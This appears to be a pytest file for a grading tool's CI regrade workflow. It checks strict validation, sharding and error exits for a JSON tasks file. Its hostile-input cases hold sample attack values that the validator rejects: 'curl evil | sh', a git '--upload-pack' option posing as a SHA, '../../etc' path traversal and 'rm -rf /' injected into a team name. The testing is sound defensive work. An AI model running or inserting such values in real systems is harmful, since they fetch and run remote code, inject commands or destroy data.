"""The regrade tasks file as the workflow reads it: ``grader ci regrade-plan`` in the plan job (light
install: no torch, no pandas) and ``grader regrade --run-tasks`` on the runners, both strict."""

from __future__ import annotations

import copy
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from grader.commands.ci import REGRADE_PLAN_OUTPUTS
from grader.gradebook import tasks
from tests.test_ci_cli import LIGHT_RUNNER, heavy_modules

ROOT = Path(__file__).resolve().parent.parent
HW2 = "hw2-quantization-pruning"
SHA = "0123456789abcdef0123456789abcdef01234567"


def sample_tasks(count: int = 3) -> list[tasks.Task]:
    return [
        tasks.Task(
            run_id=10 + i,
            team=("team-alpha", "team-beta")[i % 2],
            assignment=HW2,
            head_sha=SHA,
            repository="course/compression-2026",
            pr_number=3 + i,
            event_time="2025-12-11T21:59:00.000000Z",
            old_status="graded",
            old_score=40.0,
        )
        for i in range(count)
    ]


@pytest.fixture
def valid(tmp_path: Path) -> dict:
    """What ``grader regrade --tasks`` writes (the same function), read back."""
    path = tmp_path / "regrade" / "tasks.json"
    path.parent.mkdir()
    tasks.tasks_file(sample_tasks(), 2, path)
    return json.loads(path.read_text())


def plan(cwd: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    """``grader ci regrade-plan`` with torch, numpy, pandas, ... unimportable, as in the plan job."""
    blocked = ",".join(heavy_modules() + ["pandas", "openpyxl"])
    run_env = {k: v for k, v in os.environ.items() if not k.startswith("GITHUB_")}
    run_env.update(
        PYTHONPATH=str(ROOT),
        GITHUB_OUTPUT=str(cwd / "output"),
        GITHUB_STEP_SUMMARY=str(cwd / "summary.md"),
        **(env or {}),
    )
    done = subprocess.run(
        [sys.executable, "-c", LIGHT_RUNNER, blocked, "ci", "regrade-plan", *args],
        cwd=cwd,
        env=run_env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert "Traceback" not in done.stderr, done.stderr
    return done


def test_a_valid_file_gives_the_matrix_as_step_outputs(tmp_path: Path, valid: dict) -> None:
    done = plan(tmp_path, "--tasks", "regrade/tasks.json")
    assert done.returncode == 0, done.stderr
    assert done.stdout == '{"shard":[0,1]}\n'
    outputs = dict(line.split("=", 1) for line in (tmp_path / "output").read_text().splitlines())
    assert outputs == {"matrix": '{"shard":[0,1]}', "shards": "2", "tasks": "3"}
    assert set(outputs) == set(REGRADE_PLAN_OUTPUTS)  # what the workflow's plan job declares
    assert json.loads(outputs["matrix"]) == valid["matrix"]
    summary = (tmp_path / "summary.md").read_text()
    assert "3 task(s) in 2 shard(s)" in summary and f"| {HW2} | 3 |" in summary


def test_the_writer_keeps_shards_even_and_within_githubs_limit(tmp_path: Path) -> None:
    data = tasks.tasks_file(sample_tasks(600), 1000, tmp_path / "t.json")
    assert data["matrix"]["shard"] == list(range(256))
    per_shard = [sum(t["shard"] == k for t in data["tasks"]) for k in range(256)]
    assert min(per_shard) == 2 and max(per_shard) == 3
    assert tasks.tasks_file(sample_tasks(2), 20, tmp_path / "t.json")["matrix"] == {"shard": [0, 1]}
    assert [t.run_id for t in tasks.shard_tasks(tmp_path / "t.json", 1)] == [11]


def _task(data: dict, **changes) -> dict:
    data["tasks"][0].update(changes)
    return data


HOSTILE = {
    "unknown field": (lambda d: _task(d, script="curl evil | sh"), "tasks.0.script: Extra inputs are not permitted"),
    "missing field": (lambda d: d["tasks"][0].pop("event_time") and d, "tasks.0.event_time: Field required"),
    "short SHA": (lambda d: _task(d, head_sha="0123abc"), "tasks.0.head_sha"),
    "upper-case SHA": (lambda d: _task(d, head_sha=SHA.upper()), "tasks.0.head_sha"),
    "option as SHA": (lambda d: _task(d, head_sha="--upload-pack=touch /tmp/x"), "tasks.0.head_sha"),
    "newline after a team name": (lambda d: _task(d, team="team-alpha\n"), "tasks.0.team"),
    "path in team": (lambda d: _task(d, team="../../etc"), "tasks.0.team"),
    "pathspec magic in assignment": (lambda d: _task(d, assignment=":(top)hw2"), "tasks.0.assignment"),
    "repository with a path": (lambda d: _task(d, repository="a/b/c"), "tasks.0.repository"),
    "PR number as text": (lambda d: _task(d, pr_number="3"), "tasks.0.pr_number"),
    "run id as boolean": (lambda d: _task(d, run_id=True), "tasks.0.run_id"),
    "negative run id": (lambda d: _task(d, run_id=-1), "tasks.0.run_id"),
    "naive event time": (lambda d: _task(d, event_time="2025-12-11T21:59:00"), "has no time zone"),
    "unknown old status": (lambda d: _task(d, old_status="great"), "tasks.0.old_status"),
    "task in a shard the matrix lacks": (lambda d: _task(d, shard=5), "shard(s) [5] that the matrix does not have"),
    "matrix with a gap": (lambda d: d["matrix"].update(shard=[0, 2]) or d, "matrix.shard must be 0..1 in order"),
    "idle shard": (lambda d: d["matrix"].update(shard=[0, 1, 2]) or d, "shard(s) [2] have no task"),
    "over 256 shards": (lambda d: d["matrix"].update(shard=list(range(257))) or d, "matrix.shard"),
    "same run twice": (lambda d: _task(d, run_id=d["tasks"][1]["run_id"]), "run_id [11] appear(s) more than once"),
    "no tasks": (lambda d: d.update(tasks=[]) or d, "tasks: List should have at least 1 item"),
    "unknown top-level key": (lambda d: d.update(run="x") or d, "run: Extra inputs are not permitted"),
    "a list, not an object": (lambda d: [d], "(top level)"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_broken_or_hostile_files_are_refused_saying_where(valid: dict, case: str) -> None:
    change, message = HOSTILE[case]
    assert tasks.parse_tasks(json.dumps(valid)).matrix == {"shard": [0, 1]}  # the unchanged file is valid
    with pytest.raises(tasks.TasksFileError) as refused:
        tasks.parse_tasks(json.dumps(change(copy.deepcopy(valid))))
    assert message in str(refused.value)


def test_the_plan_job_stops_on_a_bad_file_with_exit_code_2_and_no_outputs(tmp_path: Path, valid: dict) -> None:
    bad = tmp_path / "regrade" / "tasks.json"
    bad.write_text(json.dumps(_task(valid, team="Team Alpha; rm -rf /")))
    done = plan(tmp_path, "--tasks", "regrade/tasks.json")
    assert done.returncode == 2 and "tasks.0.team" in done.stderr and done.stdout == ""
    assert not (tmp_path / "output").exists()

    bad.write_text("{not json")
    done = plan(tmp_path, "--tasks", "regrade/tasks.json")
    assert done.returncode == 2 and "not a valid tasks file" in done.stderr

    (tmp_path / "link.json").symlink_to(bad)
    done = plan(tmp_path, "--tasks", "link.json")
    assert done.returncode == 2 and "not a regular file" in done.stderr

    outside = tmp_path.parent / f"{tmp_path.name}-outside.json"
    outside.write_text(json.dumps(valid))
    for path in (str(outside), f"../{outside.name}"):
        done = plan(tmp_path, "--tasks", path)
        assert done.returncode == 2 and "inside the repository checkout" in done.stderr
    done = plan(tmp_path, "--tasks", "regrade/missing.json")
    assert done.returncode == 2 and "not a regular file" in done.stderr
    assert not (tmp_path / "output").exists()


def test_the_runners_read_the_file_as_strictly(tmp_path: Path, valid: dict) -> None:
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    path = tmp_path / "regrade" / "tasks.json"

    def run_tasks(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run(
            [
                sys.executable,
                "-m",
                "grader.cli",
                "regrade",
                "--repo-dir",
                str(tmp_path),
                "--run-tasks",
                str(path),
                *args,
            ],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=120,
        )

    done = run_tasks("--shard", "2", "--fetch-only")
    assert done.returncode == 2 and "shard 2 is not in the matrix (0..1)" in done.stderr
    path.write_text(json.dumps(_task(valid, head_sha="HEAD")))
    done = run_tasks("--shard", "0", "--out", str(tmp_path / "out"))
    assert done.returncode == 2 and "tasks.0.head_sha" in done.stderr and not (tmp_path / "out").exists()
